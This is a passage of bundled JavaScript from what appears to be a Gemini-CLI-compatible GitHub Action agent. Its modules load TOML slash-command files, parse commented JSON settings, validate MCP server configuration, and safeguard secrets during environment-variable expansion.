// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/commands/command-registry.ts
var command_registry = __webpack_require__(27095);
// EXTERNAL MODULE: ./src/commands/extensions/load-extensions.ts
var load_extensions = __webpack_require__(46664);
// EXTERNAL MODULE: ./src/commands/expand-command.ts + 3 modules
var expand_command = __webpack_require__(57520);
;// CONCATENATED MODULE: ./src/commands/invocation.ts
const INVOCATION = /^\/([\w.-]+(?::[\w.-]+)*)(?=\s|$)/;
/** The invocation `text` starts with, or undefined when it does not start with one. */
function parseCommandInvocation(text) {
    const raw = text.trim();
    const match = INVOCATION.exec(raw);
    if (!match?.[1])
        return undefined;
    const name = match[1];
    const args = raw
        .slice(match[0].length)
        .trim()
        .split(/\s+/)
        .filter((word) => word !== '')
        .join(' ');
    return { name, args, raw };
}

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: ./node_modules/smol-toml/dist/index.js + 8 modules
var dist = __webpack_require__(3292);
// EXTERNAL MODULE: ./src/policy/toml-positions.ts
var toml_positions = __webpack_require__(33165);
;// CONCATENATED MODULE: ./src/commands/command-file.ts
/**
 * One command file, read as the Gemini CLI reads it (packages/cli/src/services/FileCommandLoader.ts,
 * docs/cli/custom-commands.md "TOML file format (v1)"): a TOML document with a required `prompt`
 * string and an optional `description`; other keys are ignored, as there. The name comes from the
 * file's path below its `commands` folder: `git/commit.toml` is `git:commit`.
 *
 * Unlike the Gemini CLI, which logs a broken file and skips it, a problem here is a
 * `ConfigurationError` at the file, line and column, so the caller can skip the file and still
 * name the problem when someone asks for that command.
 */



const MAX_DESCRIPTION = 100;
const MAX_SEGMENT = 50;
/**
 * The command name of a file at `relativePath` (with `/` separators) below a `commands` folder:
 * segments joined with `:`, `.toml` dropped, each segment's characters other than letters,
 * digits, `_`, `-` and `.` replaced with `_` (so `:` in a file name cannot fake a namespace), and
 * a segment longer than 50 characters cut to 47 plus `...` — the Gemini CLI's rules.
 */
function commandNameFromPath(relativePath) {
    return relativePath
        .replace(/\.toml$/, '')
        .split('/')
        .map((segment) => {
        const sanitized = segment.replace(/[^a-zA-Z0-9_\-.]/g, '_');
        return sanitized.length > MAX_SEGMENT
            ? `${sanitized.slice(0, MAX_SEGMENT - 3)}...`
            : sanitized;
    })
        .join(':');
}
/**
 * Parses a command file. `file` is how messages name it; `fileName` its base name, for the default
 * description (`Custom command from commit.toml`).
 */
function parseCommandFile(text, options) {
    let document;
    try {
        document = (0,dist/* parse */.qg)(text.replace(/^\uFEFF/, ''));
    }
    catch (error) {
        if (!(error instanceof dist/* TomlError */.zx))
            throw error;
        const reason = (error.message.split('\n')[0] ?? '').replace(/^Invalid TOML document: /, '');
        throw new errors/* ConfigurationError */.j1(`expected a TOML command file; ${reason}.`, {
            file: options.file,
            line: error.line,
            column: error.column,
        });
    }
    const positions = (0,toml_positions/* scanTomlPositions */.i)(text);
    const fail = (key, message) => {
        throw new errors/* ConfigurationError */.j1(message, { file: options.file, ...positions.locate([key]) });
    };
    const { prompt, description } = document;
    if (prompt === undefined) {
        fail('prompt', 'expected a "prompt" string: the text sent to the model when the command is invoked.');
    }
    if (typeof prompt !== 'string') {
        return fail('prompt', `expected "prompt" to be a string, got ${describeValue(prompt)}.`);
    }
    if (description !== undefined && typeof description !== 'string') {
        return fail('description', `expected "description" to be a string, got ${describeValue(description)}.`);
    }
    const shown = description === undefined || description === '' ? undefined : description;
    return {
        prompt,
        description: displayLine(shown ?? `Custom command from ${options.fileName}`, MAX_DESCRIPTION),
    };
}
/**
 * Text for one line of a list: terminal escape sequences and control characters removed, every
 * run of whitespace one space, cut to `maxLength` with `...` (the Gemini CLI's sanitizeForDisplay).
 */
function displayLine(text, maxLength) {
    const plain = text
        // eslint-disable-next-line no-control-regex -- escape sequences are what is removed
        .replace(/\u001b\[[0-9;?]*[ -/]*[@-~]|\u001b\][^\u0007]*\u0007|\u001b[@-_]/g, '')
        // eslint-disable-next-line no-control-regex -- control characters other than whitespace
        .replace(/[\u0000-\u0008\u000e-\u001f\u007f-\u009f]/g, '')
        .replace(/\s+/g, ' ')
        .trim();
    return plain.length > maxLength ? `${plain.slice(0, maxLength - 3)}...` : plain;
}
function describeValue(value) {
    if (Array.isArray(value))
        return 'a list';
    if (value instanceof Date)
        return 'a date';
    if (typeof value === 'object' && value !== null)
        return 'a table';
    return `${typeof value} ${JSON.stringify(value)}`;
}

;// CONCATENATED MODULE: ./src/commands/load-commands.ts




/** A prompt file larger than this is not a prompt. */
const MAX_COMMAND_FILE_BYTES = 256 * 1024;
/** More files than this in one folder are not commands someone wrote by hand. */
const MAX_COMMAND_FILES = 1000;
/** Loads every command of `folder`; a folder that does not exist has none. */
async function loadCommandFolder(folder) {
    const result = { commands: [], problems: [] };
    const root = await (0,promises_.realpath)(folder.directory).catch((error) => {
        if (isMissing(error))
            return undefined;
        throw error;
    });
    if (root === undefined)
        return result;
    const files = await findTomlFiles(root);
    if (files.length > MAX_COMMAND_FILES) {
        throw new errors/* ConfigurationError */.j1(`expected at most ${MAX_COMMAND_FILES} command files in ${folder.shownAs}, found ${files.length}.`);
    }
    for (const relative of files) {
        const name = commandNameFromPath(relative);
        const origin = { ...folder.origin, file: `${folder.shownAs}/${relative}` };
        try {
            const text = await readCommandFile(root, relative, origin.file);
            const content = parseCommandFile(text, {
                file: origin.file,
                fileName: external_node_path_default().posix.basename(relative),
            });
            result.commands.push({ name, ...content, origin });
        }
        catch (error) {
            if (!(error instanceof errors/* ConfigurationError */.j1))
                throw error;
            result.problems.push({ name, origin, error });
        }
    }
    return result;
}
/** The `.toml` files below `root`, relative with `/`, sorted. Symlinked folders are not entered. */
async function findTomlFiles(root) {
    const found = [];
    const visit = async (relative) => {
        let entries;
        try {
            entries = await (0,promises_.readdir)(external_node_path_default().join(root, relative), { withFileTypes: true });
        }
        catch (error) {
            if (isMissing(error))
                return;
            throw error;
        }
        for (const entry of entries) {
            const child = relative === '' ? entry.name : `${relative}/${entry.name}`;
            if (entry.isDirectory())
                await visit(child);
            else if ((entry.isFile() || entry.isSymbolicLink()) && entry.name.endsWith('.toml')) {
                found.push(child);
            }
        }
    };
    await visit('');
    return found.sort();
}
async function readCommandFile(root, relative, shown) {
    const absolute = external_node_path_default().join(root, ...relative.split('/'));
    let real;
    try {
        real = await (0,promises_.realpath)(absolute);
    }
    catch (error) {
        throw new errors/* ConfigurationError */.j1(`could not read the command file: ${(0,errors/* errorMessage */.gJ)(error)}`, {
            file: shown,
        });
    }
    const inside = external_node_path_default().relative(root, real);
    if (inside.startsWith('..') || external_node_path_default().isAbsolute(inside)) {
        throw new errors/* ConfigurationError */.j1('expected a command file inside the commands folder; it is a symlink that leads out of it.', { file: shown });
    }
    const info = await (0,promises_.stat)(real);
    if (!info.isFile()) {
        throw new errors/* ConfigurationError */.j1('expected a command file; it is not a regular file.', {
            file: shown,
        });
    }
    if (info.size > MAX_COMMAND_FILE_BYTES) {
        throw new errors/* ConfigurationError */.j1(`expected a command file of at most ${MAX_COMMAND_FILE_BYTES} bytes; it has ${info.size}.`, { file: shown });
    }
    return (0,promises_.readFile)(real, 'utf8');
}
function isMissing(error) {
    const code = error?.code;
    return code === 'ENOENT' || code === 'ENOTDIR';
}

;// CONCATENATED MODULE: ./src/commands/run-commands.ts
/**
 * The custom commands and extensions of one run, and the invocation its instruction makes. Front
 * ends (the Action, the CLI, later the A2A server) load them once with `loadRunCommands` and ask
 * `findInvocation` whether a task text starts with `/name`; the prompt is then built with
 * `expandCommand` once the session's tools exist.
 */







/** The repository's commands folder, relative to its root. */
const REPOSITORY_COMMANDS_PATH = '.gemini/commands';
/**
 * Loads the extensions, then the commands in precedence order: bundled, each extension's
 * `commands/` (by extension name), the repository's `.gemini/commands` (from `configRoot`, so the
 * base branch's on a pull request). Logs what each extension is, which commands replace others,
 * and which command files did not load.
 */
async function loadRunCommands(options) {
    const { logger } = options;
    const extensions = await (0,load_extensions/* loadExtensions */.tF)(options);
    for (const extension of extensions)
        logger.info(`Extension ${(0,load_extensions/* describeExtension */.l_)(extension)}.`);
    const folders = [
        ...(options.bundledDirectory === undefined
            ? []
            : [
                {
                    directory: options.bundledDirectory,
                    shownAs: 'bundled commands',
                    origin: { layer: 'bundled' },
                },
            ]),
        ...extensions.map((extension) => ({
            directory: external_node_path_default().join(extension.configDirectory, 'commands'),
            shownAs: `${extension.shownAs}/commands`,
            origin: { layer: 'extension', extension: extension.name },
        })),
        {
            directory: external_node_path_default().join(options.configRoot, ...REPOSITORY_COMMANDS_PATH.split('/')),
            shownAs: REPOSITORY_COMMANDS_PATH,
            origin: { layer: 'project' },
        },
    ];
    const loaded = [];
    for (const folder of folders)
        loaded.push(await loadCommandFolder(folder));
    const registry = new command_registry/* CommandRegistry */.Ju(loaded);
    for (const shadowed of registry.shadowed)
        logger.info((0,command_registry/* describeShadowing */.oj)(shadowed));
    for (const problem of registry.problems) {
        logger.warning(`The command /${problem.name} is not available: ${problem.error.message}`);
    }
    return { extensions, registry };
}
/** A task text that names a command this run does not have; the message lists the ones it has. */
class UnknownCommandError extends errors/* ConfigurationError */.j1 {
    invocation;
    available;
    name = 'UnknownCommandError';
    constructor(invocation, available) {
        const list = available.length === 0
            ? `This repository has no custom commands (${REPOSITORY_COMMANDS_PATH}/*.toml).`
            : `The available commands: ${available.map((command) => `/${command.name} (${command.description})`).join('; ')}.`;
        super(`There is no command /${invocation.name}. ${list} To give an instruction that starts with a slash, begin it with another word.`);
        this.invocation = invocation;
        this.available = available;
    }
}
/**
 * The command `text` invokes, or undefined when it invokes none (it does not start with
 * `/name`). A name without a command is an `UnknownCommandError`; a command whose file did not
 * load throws that file's error.
 */
function findInvocation(text, registry) {
    const invocation = parseCommandInvocation(text);
    if (invocation === undefined)
        return undefined;
    const found = registry.lookup(invocation.name);
    switch (found.kind) {
        case 'command':
            return { command: found.command, invocation };
        case 'broken':
            throw found.problem.error;
        case 'unknown':
            throw new UnknownCommandError(invocation, registry.list());
    }
}
/**
 * The session prompt for a task text: the text itself, or — when it invokes a command — the
 * command's expansion, built once the session's tools exist and joined as the Gemini CLI joins
 * it. Throws for an unknown or broken command (see `findInvocation`).
 */
function sessionPromptFor(text, registry) {
    const found = findInvocation(text, registry);
    if (found === undefined)
        return text;
    return async (services) => (0,expand_command/* plainPrompt */.bb)((await (0,expand_command/* expandCommand */.Aq)(found.command, found.invocation, services)).pieces);
}


/***/ }),

/***/ 86948:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Od: () => (/* binding */ locateJsonPath),
/* harmony export */   UQ: () => (/* binding */ jsonSyntaxError),
/* harmony export */   lk: () => (/* binding */ parseJsonText)
/* harmony export */ });
/* unused harmony exports blankComments, positionAt, jsonErrorOffset */
/* harmony import */ var _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(46316);
/**
 * JSON configuration text as people write it: with `//` and `/* *\/` comments (the Gemini CLI
 * accepts them in settings.json), and with errors that point at a line and column — of a syntax
 * error, or of the key a validation error is about.
 */

/**
 * The text with comments replaced by spaces (line breaks kept), so positions in the result are
 * positions in the original. Strings are left alone, `//` inside them included.
 */
function blankComments(text) {
    let out = '';
    let i = 0;
    while (i < text.length) {
        const char = text[i] ?? '';
        const next = text[i + 1] ?? '';
        if (char === '"') {
            const end = stringEnd(text, i);
            out += text.slice(i, end);
            i = end;
        }
        else if (char === '/' && next === '/') {
            const end = text.indexOf('\n', i);
            const stop = end < 0 ? text.length : end;
            out += ' '.repeat(stop - i);
            i = stop;
        }
        else if (char === '/' && next === '*') {
            const end = text.indexOf('*/', i + 2);
            const stop = end < 0 ? text.length : end + 2;
            out += text.slice(i, stop).replace(/[^\r\n]/g, ' ');
            i = stop;
        }
        else {
            out += char;
            i += 1;
        }
    }
    return out;
}
/** The index just past the string starting at `start` (a `"`), or the end of the text. */
function stringEnd(text, start) {
    let i = start + 1;
    while (i < text.length) {
        const char = text[i];
        if (char === '\\')
            i += 2;
        else if (char === '"')
            return i + 1;
        else
            i += 1;
    }
    return text.length;
}
function positionAt(text, offset) {
    const before = text.slice(0, Math.max(0, offset));
    const lines = before.split('\n');
    return { line: lines.length, column: (lines[lines.length - 1]?.length ?? 0) + 1 };
}
/** Parses JSON with comments; a syntax error is a `ConfigurationError` at its line and column. */
function parseJsonText(text, file) {
    const blanked = blankComments(text.replace(/^\uFEFF/, ''));
    try {
        return JSON.parse(blanked);
    }
    catch (error) {
        const { reason, position } = jsonSyntaxError(blanked, error);
        throw new _platform_errors_js__WEBPACK_IMPORTED_MODULE_0__/* .ConfigurationError */ .j1(`expected valid JSON; ${reason}.`, { file, ...position });
    }
}
/** What `JSON.parse` said about `text`, and where in it, as a line and column. */
function jsonSyntaxError(text, error) {
    const message = error instanceof Error ? error.message : String(error);
    const reason = message.replace(/\s*(?:in JSON )?at position \d+.*$/s, '').trim();
    return { reason, position: syntaxErrorPosition(text, message) };
}
/**
 * Node reports `at position N` (and newer versions `(line L column C)`), but V8's "Unexpected
 * token" messages say nowhere; the text is then scanned for the first character that breaks it.
 */
function syntaxErrorPosition(text, message) {
    const lineColumn = /line (\d+) column (\d+)/.exec(message);
    if (lineColumn)
        return { line: Number(lineColumn[1]), column: Number(lineColumn[2]) };
    const position = /position (\d+)/.exec(message);
    if (position)
        return positionAt(text, Number(position[1]));
    const offset = jsonErrorOffset(text);
    return positionAt(text, offset === undefined ? text.length : offset);
}
/**
 * The offset of the first character at which `text` stops being JSON (its length when it ends
 * too early), or undefined when it is JSON. A plain recursive-descent scan of RFC 8259's grammar.
 */
function jsonErrorOffset(text) {
    let i = 0;
    const fail = () => {
        throw new JsonScanStop(i);
    };
    const space = () => {
        while (i < text.length && ' \t\n\r'.includes(text[i] ?? ''))
            i += 1;
    };
    const expect = (char) => {
        if (text[i] !== char)
            fail();
        i += 1;
    };
    const string = () => {
        expect('"');
        for (;;) {
            const char = text[i];
            if (char === undefined || char < ' ')
                fail();
            i += 1;
            if (char === '"')
                return;
            if (char === '\\') {
                const escape = text[i] ?? '';
                if (escape === 'u') {
                    for (let digit = 1; digit <= 4; digit += 1) {
                        if (!/[0-9a-fA-F]/.test(text[i + digit] ?? '')) {
                            i += digit;
                            fail();
                        }
                    }
                    i += 5;
                }
                else if (escape !== '' && '"\\/bfnrt'.includes(escape)) {
                    i += 1;
                }
                else {
                    fail();
                }
            }
        }
    };
    const NUMBER = /-?(?:0|[1-9]\d*)(?:\.\d+)?(?:[eE][+-]?\d+)?/y;
    const number = () => {
        NUMBER.lastIndex = i;
        const match = NUMBER.exec(text);
        if (match === null)
            fail();
        i = NUMBER.lastIndex;
    };
    const word = (literal) => {
        for (const char of literal)
            expect(char);
    };
    const value = () => {
        space();
        const char = text[i];
        if (char === '{') {
            i += 1;
            space();
            if (text[i] === '}') {
                i += 1;
                return;
            }
            for (;;) {
                space();
                string();
                space();
                expect(':');
                value();
                space();
                if (text[i] === '}') {
                    i += 1;
                    return;
                }
                expect(',');
            }
        }
        else if (char === '[') {
            i += 1;
            space();
            if (text[i] === ']') {
                i += 1;
                return;
            }
            for (;;) {
                value();
                space();
                if (text[i] === ']') {
                    i += 1;
                    return;
                }
                expect(',');
            }
        }
        else if (char === '"') {
            string();
        }
        else if (char === 't') {
            word('true');
        }
        else if (char === 'f') {
            word('false');
        }
        else if (char === 'n') {
            word('null');
        }
        else {
            number();
        }
    };
    try {
        value();
        space();
        if (i < text.length)
            fail();
        return undefined;
    }
    catch (error) {
        if (error instanceof JsonScanStop)
            return error.offset;
        throw error;
    }
}
/** Ends the scan at the offending character. */
class JsonScanStop extends Error {
    offset;
    constructor(offset) {
        super(`not JSON from offset ${offset}`);
        this.offset = offset;
    }
}
/**
 * Where the value at `path` (object keys and array indexes) starts in the JSON text — the key's
 * position for object members — or the nearest enclosing value found. Undefined when not even
 * the first step is found (a value that came from somewhere other than this text).
 */
function locateJsonPath(text, path) {
    const source = blankComments(text);
    let offset = skipSpace(source, 0);
    let found;
    for (const step of path) {
        const next = typeof step === 'number' ? arrayItem(source, offset, step) : member(source, offset, step);
        if (next === undefined)
            break;
        found = next.key;
        offset = next.value;
    }
    return found === undefined ? undefined : positionAt(source, found);
}
function skipSpace(text, offset) {
    let i = offset;
    while (i < text.length && /\s/.test(text[i] ?? ''))
        i += 1;
    return i;
}
/** The end of the JSON value starting at `offset`. */
function valueEnd(text, offset) {
    const char = text[offset];
    if (char === '"')
        return stringEnd(text, offset);
    if (char === '{' || char === '[') {
        let depth = 0;
        let i = offset;
        while (i < text.length) {
            const c = text[i];
            if (c === '"') {
                i = stringEnd(text, i);
                continue;
            }
            if (c === '{' || c === '[')
                depth += 1;
            if (c === '}' || c === ']') {
                depth -= 1;
                if (depth === 0)
                    return i + 1;
            }
            i += 1;
        }
        return text.length;
    }
    let i = offset;
    while (i < text.length && !/[,}\]\s]/.test(text[i] ?? ''))
        i += 1;
    return i;
}
/** The member `name` of the object at `offset`: where its key and its value start. */
function member(text, offset, name) {
    if (text[offset] !== '{')
        return undefined;
    let i = skipSpace(text, offset + 1);
    while (i < text.length && text[i] === '"') {
        const keyEnd = stringEnd(text, i);
        let key;
        try {
            key = JSON.parse(text.slice(i, keyEnd));
        }
        catch {
            return undefined;
        }
        const colon = skipSpace(text, keyEnd);
        if (text[colon] !== ':')
            return undefined;
        const value = skipSpace(text, colon + 1);
        if (key === name)
            return { key: i, value };
        i = skipSpace(text, valueEnd(text, value));
        if (text[i] !== ',')
            return undefined;
        i = skipSpace(text, i + 1);
    }
    return undefined;
}
/** Item `index` of the array at `offset`. */
function arrayItem(text, offset, index) {
    if (text[offset] !== '[')
        return undefined;
    let i = skipSpace(text, offset + 1);
    for (let current = 0; i < text.length && text[i] !== ']'; current += 1) {
        if (current === index)
            return { key: i, value: i };
        i = skipSpace(text, valueEnd(text, i));
        if (text[i] !== ',')
            return undefined;
        i = skipSpace(text, i + 1);
    }
    return undefined;
}


/***/ }),

/***/ 64570:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   k: () => (/* binding */ createExpander)
/* harmony export */ });
/* harmony import */ var _platform_tool_environment_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(4861);
/**
 * `$VAR` and `${VAR}` in an MCP server's `env` and `headers`, expanded from the workflow's
 * environment (the step's `env:`), so a server gets its own credential without the model ever
 * seeing it. Every value put in is collected: it is a secret of that server, to be masked and
 * redacted like the Action's own.
 *
 * Stricter than the Gemini CLI, which leaves an unknown `$VAR` as it is: a variable that is unset
 * or empty is an error here. In a workflow that almost always means a secret that was not passed
 * or is not available to the run (a fork, Dependabot), and a server started with the text
 * `$TOKEN` or an empty token fails later in a way that is hard to trace back.
 *
 * Some names are never expanded, whatever the settings say: the Action's inputs (`INPUT_*`, which
 * hold its GitHub token and model key), the runner's runtime tokens (`ACTIONS_*`), and the
 * workflow command files (`GITHUB_ENV`, …), through which a process changes later steps. Nor may
 * any variable carry the Action's own GitHub token or model key under another name: the write
 * token is for the trusted publishing step only.
 */

const VARIABLE = /\$(?:\{([A-Za-z_][A-Za-z0-9_]*)\}|([A-Za-z_][A-Za-z0-9_]*))/g;
function createExpander(options) {
    const forbidden = new Set((options.forbiddenValues ?? []).filter((value) => value !== undefined && value !== ''));
    const expanded = new Set();
    const expandOne = (name, keyPath) => {
        if ((0,_platform_tool_environment_js__WEBPACK_IMPORTED_MODULE_0__/* .isRunnerControlName */ .Pk)(name)) {
            options.fail(keyPath, `$${name} cannot be expanded: the Action's inputs, the runner's tokens and the workflow command files are not given to MCP servers. Pass the server its own secret with env: on the step and refer to that.`);
        }
        const value = options.env[name];
        if (value === undefined) {
            options.fail(keyPath, `$${name} is not set in the environment; set it with env: on the step (for example ${name}: \${{ secrets.${name} }}).`);
        }
        if (value === '') {
            options.fail(keyPath, `$${name} is empty in the environment. A secret that does not exist, or is not available to this run (pull requests from forks, Dependabot), is empty; check the env: of the step.`);
        }
        const text = value;
        if (forbidden.has(text)) {
            options.fail(keyPath, `$${name} holds the Action's own GitHub token or model key, which only the Action itself uses (the write token publishes the agent's changes). Give the server its own, narrower token through the step's env: (for example MCP_GITHUB_TOKEN: \${{ secrets.READONLY_PAT }}) and refer to that.`);
        }
        expanded.add(text);
        return text;
    };
    return {
        expand: (text, keyPath) => text.replace(VARIABLE, (_match, braced, bare) => expandOne(braced ?? bare ?? '', keyPath)),
        values: () => [...expanded],
    };
}


/***/ }),

/***/ 6042:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Oi: () => (/* binding */ serverNameProblem),
/* harmony export */   dP: () => (/* binding */ settingsSchema),
/* harmony export */   i6: () => (/* binding */ checkServer),
/* harmony export */   zT: () => (/* binding */ serverSchema)
/* harmony export */ });
/* harmony import */ var zod__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(41514);
/**
 * The shape of the settings.json keys the agent uses, and the checks zod cannot express on its
 * own (one transport per MCP server, URLs, names). Every other key is accepted and ignored: a
 * settings file written for the Gemini CLI has many.
 */

const strings = zod__WEBPACK_IMPORTED_MODULE_0__/* .array */ .YOg(zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a string' }), {
    error: 'expected a list of strings',
});
/**
 * Environment and header values. Numbers and booleans become text, as the Gemini CLI's process
 * and HTTP libraries would make them (`"PORT": 3000`).
 */
const stringMap = zod__WEBPACK_IMPORTED_MODULE_0__/* .record */ .g1P(zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), zod__WEBPACK_IMPORTED_MODULE_0__/* .union */ .KCZ([zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), zod__WEBPACK_IMPORTED_MODULE_0__/* .number */ .aig(), zod__WEBPACK_IMPORTED_MODULE_0__/* .boolean */ .zMY()], {
    error: 'expected a string value',
})
    .transform(String), { error: 'expected an object of string values' });
const object = { error: 'expected an object' };
const serverSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    command: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a string' })
        .min(1, 'expected a non-empty command')
        .optional(),
    args: strings.optional(),
    env: stringMap.optional(),
    cwd: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a string' }).optional(),
    url: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a string' }).optional(),
    httpUrl: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a string' }).optional(),
    type: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(['sse', 'http'], { error: 'expected "sse" or "http"' }).optional(),
    headers: stringMap.optional(),
    timeout: zod__WEBPACK_IMPORTED_MODULE_0__/* .number */ .aig({ error: 'expected a number of milliseconds' })
        .int('expected a whole number of milliseconds')
        .positive('expected a positive number of milliseconds')
        .optional(),
    trust: zod__WEBPACK_IMPORTED_MODULE_0__/* .boolean */ .zMY({ error: 'expected true or false' }).optional(),
    description: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a string' }).optional(),
    includeTools: strings.optional(),
    excludeTools: strings.optional(),
}, object);
const command = zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a command line as a string' });
const flag = zod__WEBPACK_IMPORTED_MODULE_0__/* .boolean */ .zMY({ error: 'expected true or false' });
/** The Gemini CLI's `telemetry` object (https://geminicli.com/docs/cli/telemetry). */
const telemetrySchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    enabled: flag.optional(),
    target: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(['local', 'gcp'], { error: 'expected "local" or "gcp"' }).optional(),
    otlpEndpoint: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a URL as a string' }).optional(),
    otlpProtocol: zod__WEBPACK_IMPORTED_MODULE_0__/* ["enum"] */ .k5n(['grpc', 'http'], { error: 'expected "grpc" or "http"' }).optional(),
    logPrompts: flag.optional(),
    outfile: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a file path as a string' })
        .min(1, 'expected a file path')
        .optional(),
    useCollector: flag.optional(),
}, object);
/** Nested names as the Gemini CLI writes them now, and the flat names of its older files. */
const settingsSchema = zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
    mcpServers: zod__WEBPACK_IMPORTED_MODULE_0__/* .record */ .g1P(zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP(), serverSchema, object).optional(),
    mcp: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ allowed: strings.optional(), excluded: strings.optional() }, object)
        .optional(),
    tools: zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({
        core: strings.optional(),
        exclude: strings.optional(),
        discoveryCommand: command.optional(),
        callCommand: command.optional(),
    }, object)
        .optional(),
    /** `model.name` chooses the model (the Gemini CLI's setting); older files wrote `model` alone. */
    model: zod__WEBPACK_IMPORTED_MODULE_0__/* .preprocess */ .vkY((value) => (typeof value === 'string' ? { name: value } : value), zod__WEBPACK_IMPORTED_MODULE_0__/* .looseObject */ ._H3({ name: zod__WEBPACK_IMPORTED_MODULE_0__/* .string */ .YjP({ error: 'expected a model name' }).optional() }, object))
        .optional(),
    telemetry: telemetrySchema.optional(),
    coreTools: strings.optional(),
    excludeTools: strings.optional(),
    toolDiscoveryCommand: command.optional(),
    toolCallCommand: command.optional(),
    allowMCPServers: strings.optional(),
    excludeMCPServers: strings.optional(),
});
/**
 * Why a server name cannot be used, or undefined. The name becomes part of tool names
 * (`server__tool`) and policy patterns (`mcp_<server>_*`), so it is kept to the characters those
 * allow; `__` would make a qualified name ambiguous (which part is the server?).
 */
function serverNameProblem(name) {
    if (name.trim() === '')
        return 'expected a non-empty server name.';
    if (name.includes('__')) {
        return 'expected a server name without "__", which separates the server from the tool in qualified tool names (server__tool).';
    }
    if (!/^[A-Za-z0-9_.-]+$/.test(name)) {
        return 'expected a server name of letters, digits, "_", "." and "-" only.';
    }
    return undefined;
}
/** One validated, expanded server entry. */
function checkServer(server, checks) {
    const transports = ['command', 'url', 'httpUrl'].filter((key) => server[key] !== undefined);
    if (transports.length !== 1) {
        const got = transports.length === 0
            ? 'tcp' in server
                ? 'only "tcp", and WebSocket servers are not supported'
                : 'none'
            : transports.map((key) => `"${key}"`).join(' and ');
        checks.fail([], `expected exactly one of "command", "url" or "httpUrl"; got ${got}.`);
    }
    for (const key of ['url', 'httpUrl']) {
        const text = server[key];
        if (text !== undefined && !isHttpUrl(text)) {
            checks.fail([key], `expected an http:// or https:// URL; got ${JSON.stringify(text)}.`);
        }
    }
    if (server.type !== undefined && server.url === undefined) {
        checks.fail(['type'], 'only applies to "url" (use "httpUrl" for streamable HTTP).');
    }
    const result = {};
    const copy = (key, value) => {
        if (value !== undefined)
            result[key] = value;
    };
    copy('command', server.command);
    copy('args', server.args);
    copy('cwd', server.cwd);
    copy('url', server.url);
    copy('httpUrl', server.httpUrl);
    copy('type', server.type);
    copy('timeout', server.timeout);
    copy('trust', server.trust);
    copy('description', server.description);
    copy('includeTools', server.includeTools);
    copy('excludeTools', server.excludeTools);
    for (const key of ['env', 'headers']) {
        const map = server[key];
        if (map === undefined)
            continue;
        result[key] = Object.fromEntries(Object.entries(map).map(([name, text]) => [name, checks.expand(text, [key, name])]));
    }
    return result;
}
function isHttpUrl(text) {
    try {
        const url = new URL(text);
        return url.protocol === 'http:' || url.protocol === 'https:';
    }
    catch {
        return false;
    }
}


/***/ }),

/***/ 88153:
/***/ ((__unused_webpack_module, __webpack_exports__, __webpack_require__) => {


// EXPORTS
__webpack_require__.d(__webpack_exports__, {
  WA: () => (/* binding */ DEFAULT_SETTINGS_PATH),
  ZR: () => (/* binding */ SETTINGS_INPUT_NAME),
  td: () => (/* binding */ loadAgentSettings)
});

// UNUSED EXPORTS: parseAgentSettings

// EXTERNAL MODULE: external "node:fs/promises"
var promises_ = __webpack_require__(51455);
// EXTERNAL MODULE: external "node:path"
var external_node_path_ = __webpack_require__(76760);
var external_node_path_default = /*#__PURE__*/__webpack_require__.n(external_node_path_);
// EXTERNAL MODULE: ./src/platform/errors.ts
var errors = __webpack_require__(46316);
// EXTERNAL MODULE: ./src/config/json-text.ts
var json_text = __webpack_require__(86948);
// EXTERNAL MODULE: ./src/config/settings-expand.ts
var settings_expand = __webpack_require__(64570);
// EXTERNAL MODULE: ./src/config/settings-schema.ts
var settings_schema = __webpack_require__(6042);
;// CONCATENATED MODULE: ./src/config/settings-types.ts
/**
 * The parts of the Gemini CLI's `settings.json` this agent honours, after validation and `$VAR`
 * expansion. The same file works for both: keys the agent does not use are accepted and ignored
 * (a settings file written for the CLI has many), keys it uses are checked strictly.
 */
/** No settings at all: no extension tools, every built-in offered. */
const EMPTY_SETTINGS = {
    mcpServers: {},
    source: 'defaults',
    expandedValues: [],
};

;// CONCATENATED MODULE: ./src/config/settings.ts
/**
 * The Gemini CLI's `settings.json`, as far as this agent uses it: MCP servers, command-discovered
 * tools and which tools are offered. It comes from the `settings` input (JSON or a repository
 * path) or `.gemini/settings.json` — on pull requests, the base branch's copy. Keys the agent does
 * not use are accepted (a file written for the CLI has many); the ones it uses are checked, and a
 * mistake is a `ConfigurationError` at the file, line and column of the key.
 *
